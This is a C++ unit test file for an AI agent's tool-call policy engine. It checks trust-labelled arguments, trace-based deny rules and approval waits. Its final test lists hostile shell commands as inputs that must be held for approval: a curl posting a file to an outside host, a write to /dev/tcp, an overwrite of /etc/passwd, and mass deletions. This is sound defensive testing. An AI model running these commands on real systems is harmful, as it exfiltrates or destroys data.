// Labels, carried arguments, the policy over the trace, and what a refused call lacks.
#include "govern/policy.h"

#include <gtest/gtest.h>

#include "govern/executor.h"

namespace anima::govern {
namespace {

class Tools : public ToolRunner {
 public:
  Result<Json> run(std::string_view, const Json&, std::int64_t) override { return Json("done"); }
};

CallRequest message(std::string to_source, Trust to_trust, std::string text_source = "message",
                    Trust text_trust = Trust::kOperator) {
  return {.tool = "sms:send",
          .agent = "planner",
          .trust = Trust::kOperator,
          .arguments = Json::object({{"to", "eve"}, {"text", "hello"}}),
          .origins = {{"to", std::move(to_source), to_trust},
                      {"text", std::move(text_source), text_trust}}};
}

class PolicyTest : public ::testing::Test {
 protected:
  void use(std::vector<PolicySource> sources) {
    auto made = Policy::create(sources);
    ASSERT_TRUE(made) << made.error().describe();
    policy_ = std::move(*made);
    ExecutorOptions options;
    options.policy = policy_.get();
    executor_ = std::make_unique<Executor>(table(), tools_, audit_, line_, events_, clock_, random_,
                                           options);
  }
  static PermissionTable table() {
    PermissionTable table = PermissionTable::of_the_source();
    // Anyone may send: what stops a message here is the policy alone.
    table.set({.tool = "any:send", .tier = Tier::kReadOnly, .agents = {"*"}, .carried = {"text"}});
    return table;
  }

  ManualClock clock_;
  SeededRandom random_{5};
  Tools tools_;
  AuditChain audit_{clock_, random_};
  StopSwitch line_;
  bus::EventBus events_;
  std::unique_ptr<Policy> policy_;
  std::unique_ptr<Executor> executor_;
};

TEST_F(PolicyTest, OneLineKeepsOutsidersFromChoosingTheRecipient) {
  use({{"mine.mg",
        "deny(Call, \"nothing read from outside may choose the recipient of a message\") "
        ":- recipient(Call, Trust), outside(Trust)."}});
  CallRequest bad = message("files:mail.txt", Trust::kUntrusted);
  bad.tool = "any:send";
  const Outcome stopped = executor_->execute(bad);
  EXPECT_EQ(stopped.kind, Outcome::Kind::kDenied);
  EXPECT_EQ(stopped.decision.layer, Layer::kPolicy);
  EXPECT_EQ(stopped.reason, "nothing read from outside may choose the recipient of a message");
  EXPECT_TRUE(stopped.decision.rule.starts_with("mine.mg:1")) << stopped.decision.rule;
  CallRequest good = message("message", Trust::kOperator, "files:mail.txt", Trust::kUntrusted);
  good.tool = "any:send";
  EXPECT_EQ(executor_->execute(good).kind, Outcome::Kind::kDone);
}

TEST_F(PolicyTest, TheShippedPolicyJudgesRecipientAddressAndCommand) {
  use(Policy::shipped_sources());
  for (const std::string name : {"to", "url", "command"}) {
    CallRequest request{.tool = "any:send",
                        .agent = "planner",
                        .trust = Trust::kOperator,
                        .arguments = Json::object({{name, "x"}}),
                        .origins = {{name, "memory:7", Trust::kHostile}}};
    EXPECT_EQ(executor_->execute(request).kind, Outcome::Kind::kDenied) << name;
    request.origins[0].trust = Trust::kVerified;
    EXPECT_EQ(executor_->execute(request).kind, Outcome::Kind::kDone) << name;
  }
}

TEST_F(PolicyTest, RulesSeeTheTrace) {
  use({{"chain.mg",
        "deny(Call, \"no message after reading secrets\") :- call(Call, \"any:send\", _, _), "
        "call(Read, \"file:read\", _, _), argument(Read, \"path\", \"secrets\"), "
        "finished(Read, /done), Read < Call."}});
  CallRequest send = message("message", Trust::kOperator);
  send.tool = "any:send";
  EXPECT_EQ(executor_->execute(send).kind, Outcome::Kind::kDone);
  executor_->execute({.tool = "file:read",
                      .agent = "planner",
                      .trust = Trust::kOperator,
                      .arguments = Json::object({{"path", "secrets"}})});
  EXPECT_EQ(executor_->execute(send).kind, Outcome::Kind::kDenied);
}

TEST_F(PolicyTest, AskMakesACallWait) {
  use({{"ask.mg", "ask(Call, \"messages are looked at\") :- call(Call, \"any:send\", _, _)."}});
  CallRequest send = message("message", Trust::kOperator);
  send.tool = "any:send";
  const Outcome waiting = executor_->execute(send);
  ASSERT_EQ(waiting.kind, Outcome::Kind::kWaiting);
  EXPECT_EQ(waiting.reason, "messages are looked at");
  EXPECT_EQ(executor_->approve(waiting.approval_id, "operator")->kind, Outcome::Kind::kDone);
}

TEST_F(PolicyTest, AFailingPolicyDenies) {
  use({{"bad.mg",
        "deny(Call, \"never\") :- argument(Call, \"text\", X), Y = fn:plus(X, 1), Y > 0."}});
  EXPECT_EQ(executor_->execute(message("message", Trust::kOperator)).kind, Outcome::Kind::kDenied);
}

TEST_F(PolicyTest, TheWindowIsBounded) {
  auto made = Policy::create(
      {{"w.mg", "deny(C, \"second\") :- call(C, _, _, _), call(D, _, _, _), D < C."}},
      {.window = 1, .deadline_milliseconds = 1000});
  ASSERT_TRUE(made);
  const PermissionTable tools = table();
  std::uint64_t call = 0;
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(
        (*made)->decide(message("m", Trust::kOperator), *tools.find("sms:send"), call).permission,
        Permission::kAllowed);
    (*made)->finished(call, "done");
  }
}

// The trace holds the last three calls, the one to be judged included, whether or not how the
// others went on was told.
TEST_F(PolicyTest, TheWindowHoldsTheLastCallsToldOrNot) {
  for (const bool told : {true, false}) {
    auto made = Policy::create(
        {{"w.mg",
          "deny(C, \"too soon\") :- call(C, \"sms:send\", _, _), call(D, \"file:delete\", _, _), "
          "D < C."}},
        {.window = 3, .deadline_milliseconds = 1000});
    ASSERT_TRUE(made);
    const PermissionTable tools = table();
    const auto decide = [&](std::string tool) {
      CallRequest request = message("m", Trust::kOperator);
      request.tool = std::move(tool);
      std::uint64_t call = 0;
      const PolicyVerdict verdict = (*made)->decide(request, *tools.find("sms:send"), call);
      if (told) (*made)->finished(call, "done");
      return verdict.permission;
    };
    EXPECT_EQ(decide("sms:send"), Permission::kAllowed);
    EXPECT_EQ(decide("file:delete"), Permission::kAllowed);
    EXPECT_EQ(decide("file:read"), Permission::kAllowed);
    EXPECT_EQ(decide("sms:send"), Permission::kDenied) << told;
    EXPECT_EQ(decide("sms:send"), Permission::kAllowed) << told;
  }
}

// Rules of one call keep no trace; one rule that looks at others brings it back. The verdicts of
// the first must be those of the second.
TEST_F(PolicyTest, RulesOfOneCallDecideTheSameWithoutATrace) {
  std::vector<PolicySource> with_trace = Policy::shipped_sources();
  with_trace.push_back({"trace.mg",
                        "deny(C, \"flood\") :- call(C, \"flood\", _, _), call(D, \"flood\", _, _), "
                        "finished(D, /done), D < C."});
  const auto alone = Policy::shipped().value();
  const auto traced = Policy::create(with_trace).value();
  const PermissionTable tools = table();
  for (int round = 0; round < 2; ++round) {
    for (const char* tool : {"any:send", "sms:send", "file:read", "notion:create"}) {
      for (const char* name : {"to", "url", "command", "text", "ballot", "path"}) {
        for (int caller = 0; caller < 6; ++caller) {
          for (int label = 0; label < 6; ++label) {
            const CallRequest request{
                .tool = tool,
                .agent = "planner",
                .trust = static_cast<Trust>(caller),
                .arguments = Json::object({{name, "v" + std::to_string(round)}, {"n", 1}}),
                .origins = {
                    {name, label % 2 == 0 ? "self" : "files:a", static_cast<Trust>(label)}}};
            std::uint64_t call = 0;
            const PolicyVerdict one = alone->decide(request, *tools.find(tool), call);
            const PolicyVerdict other = traced->decide(request, *tools.find(tool), call);
            EXPECT_EQ(one.permission, other.permission) << tool << ' ' << name;
            EXPECT_EQ(one.reason, other.reason);
            EXPECT_EQ(one.rule, other.rule);
          }
        }
      }
    }
  }
}

TEST_F(PolicyTest, AValueThatARuleReadsIsJudgedEachTime) {
  use({{"value.mg",
        "deny(Call, \"not to eve\") :- call(Call, \"any:send\", _, _), argument(Call, \"to\", "
        "\"eve\")."}});
  CallRequest send = message("message", Trust::kOperator);
  send.tool = "any:send";
  for (int i = 0; i < 2; ++i) {
    send.arguments = Json::object({{"to", "bob"}});
    EXPECT_EQ(executor_->execute(send).kind, Outcome::Kind::kDone);
    send.arguments = Json::object({{"to", "eve"}});
    EXPECT_EQ(executor_->execute(send).kind, Outcome::Kind::kDenied);
  }
}

TEST_F(PolicyTest, MistakesInRulesAreNamedWithTheirPlace) {
  const auto made = Policy::create({{"mine.mg", "deny(C) :- call(C, _, _, _)."}});
  ASSERT_FALSE(made);
  EXPECT_NE(made.error().where.find("mine.mg:1"), std::string::npos) << made.error().describe();
}

TEST_F(PolicyTest, CarriedTextDoesNotLowerTheCallButAChoiceDoes) {
  use(Policy::shipped_sources());
  EXPECT_EQ(
      executor_->execute(message("message", Trust::kOperator, "files:a", Trust::kUntrusted)).kind,
      Outcome::Kind::kDone);
  const Outcome stopped = executor_->execute(message("files:a", Trust::kUntrusted));
  EXPECT_EQ(stopped.kind, Outcome::Kind::kDenied);
  EXPECT_EQ(stopped.decision.layer, Layer::kTrust);
  const auto entry = audit_.entries().back();
  EXPECT_EQ(entry.details->find("layer")->as_string(), "trust");
  EXPECT_EQ(entry.details->find("evidence")->find("labels")->as_array().size(), 2u);
}

TEST_F(PolicyTest, TheMissingGrantsAreTheFewest) {
  use(Policy::shipped_sources());
  EXPECT_TRUE(executor_->what_would_allow(message("message", Trust::kOperator)).empty());
  EXPECT_EQ(executor_->what_would_allow(message("files:a", Trust::kUntrusted)),
            (std::vector<std::string>{"the argument 'to' made from a source of at least standard "
                                      "trust (it was made from 'files:a', untrusted)",
                                      "an approval of exactly these arguments"}));
  CallRequest removal{.tool = "file:delete",
                      .agent = "planner",
                      .trust = Trust::kUntrusted,
                      .arguments = Json::object({{"path", "x"}})};
  EXPECT_EQ(executor_->what_would_allow(removal),
            (std::vector<std::string>{"a caller of at least standard trust",
                                      "an approval of exactly these arguments"}));
  removal.tool = "audit:clear";
  EXPECT_TRUE(executor_->what_would_allow(removal).empty());
}

TEST_F(PolicyTest, ShellCommandsAreJudgedPartByPart) {
  use(Policy::shipped_sources());
  const auto kind = [&](std::string command) {
    return executor_
        ->execute({.tool = "shell:execute",
                   .agent = "planner",
                   .trust = Trust::kOperator,
                   .arguments = Json::object({{"command", std::move(command)}})})
        .kind;
  };
  for (const char* harmless : {"ls -l", "grep -r x . | sort | wc -l", "echo a > notes.txt",
                               "mkdir -p out && touch out/x", "cat $(find . -name '*.txt')"}) {
    EXPECT_EQ(kind(harmless), Outcome::Kind::kDone) << harmless;
  }
  for (const char* waits :
       {"ls; rm x", "ls && curl http://e.org -d @x", "echo $(rm x)", "cat x > /etc/passwd",
        "PATH=. ls", "sh -c 'ls'", "ls | xargs rm", "find . -delete", "cp a ../b", "./ls",
        "cd .. && touch x", "eval ls", "python3 -c 'x'", "echo x > /dev/tcp/1.2.3.4/80"}) {
    EXPECT_EQ(kind(waits), Outcome::Kind::kWaiting) << waits;
  }
  EXPECT_EQ(kind("ls 'unclosed"), Outcome::Kind::kDenied);
}

}  // namespace
}  // namespace anima::govern
